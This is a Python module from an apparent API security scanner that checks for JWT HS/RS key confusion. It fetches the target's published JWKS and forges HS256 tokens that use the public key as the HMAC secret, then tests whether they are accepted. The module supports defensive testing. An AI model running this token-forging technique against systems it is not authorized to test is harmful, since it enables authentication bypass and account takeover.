"""Authentication: HS/RS key confusion — an HMAC token signed with the server's *public* RSA/EC key."""

from __future__ import annotations

from typing import Any

from cryptography.hazmat.primitives import serialization
from joserfc.jwk import KeySet

from bastion.scan import tokens
from bastion.scan.checks._forgery import jwt_sessions, try_forged
from bastion.scan.context import ScanContext
from bastion.scan.findings import CheckInfo, Severity
from bastion.scan.registry import check
from bastion.scan.reporter import Reporter
from bastion.scan.sessions import Session

INFO = CheckInfo(
    id="authn.jwt-key-confusion",
    title="JWT algorithm confusion: HMAC signed with the public key accepted",
    severity=Severity.CRITICAL,
    cwe=327,
    owasp="API2",
    needs_users=1,
    remediation="Bind each key to one algorithm family; a public key must never be usable as an HMAC secret.",
    bastion="authn:\n  methods:\n    - jwt: {issuer: ..., algorithms: [RS256], jwks_url: ...}   # keys are bound to "
    "their algorithm",
)
WELL_KNOWN = (
    "/.well-known/jwks.json",
    "/jwks.json",
    "/.well-known/openid-configuration",
    "/oauth/jwks",
    "/api/jwks.json",
    "/keys",
)


def published_keys(ctx: ScanContext) -> list[Any]:
    """Public keys the target itself publishes (only the target is asked, never a third party)."""
    if "published_keys" in ctx.facts:
        cached: list[Any] = ctx.facts["published_keys"]
        return cached
    documents: list[dict[str, Any]] = []
    for path in WELL_KNOWN:
        exchange = ctx.target.send("GET", path, operation="jwks-discovery")
        data = exchange.json if exchange.ok else None
        if isinstance(data, dict) and isinstance(data.get("jwks_uri"), str):
            try:
                linked = ctx.target.send("GET", data["jwks_uri"], operation="jwks-discovery")
            except Exception:  # noqa: S112 - a jwks_uri on another host is out of scope: skipped
                continue
            data = linked.json if linked.ok else None
        if isinstance(data, dict) and isinstance(data.get("keys"), list):
            documents.append(data)
    keys = []
    for document in documents:
        try:
            keys.extend(KeySet.import_key_set(document).keys)  # type: ignore[arg-type]
        except Exception:  # noqa: S112 - unusable entries are skipped, the rest still tried
            continue
    ctx.facts["published_keys"] = keys
    return keys


@check(INFO)
def run(ctx: ScanContext, report: Reporter) -> None:
    for session, parsed in jwt_sessions(ctx, report):
        _attack(ctx, report, session, parsed)


def _attack(ctx: ScanContext, report: Reporter, session: Session, parsed: tokens.ParsedToken) -> None:
    if not parsed.alg.startswith(("RS", "PS", "ES")):
        report.skip(f"the tokens are {parsed.alg or 'unsigned'}, not signed with a public-key algorithm")
        return
    keys = published_keys(ctx)
    if not keys:
        report.skip("the target publishes no JWKS at a well-known location to sign with")
        return
    for key in keys:
        public = key.as_der(private=False) if hasattr(key, "as_der") else None
        pem = key.as_pem(private=False) if hasattr(key, "as_pem") else None
        secrets = [s for s in (pem, pem.strip() if pem else None, public) if s]
        if isinstance(pem, bytes):
            loaded = serialization.load_pem_public_key(pem)
            secrets.append(loaded.public_bytes(serialization.Encoding.PEM, serialization.PublicFormat.PKCS1))
        for secret in secrets:
            header = {**parsed.header, "alg": "HS256"}
            forged = tokens.sign_hmac(header, parsed.claims, secret)
            if try_forged(ctx, report, session, forged, "an HS256 token whose HMAC secret is the published public key"):
                return
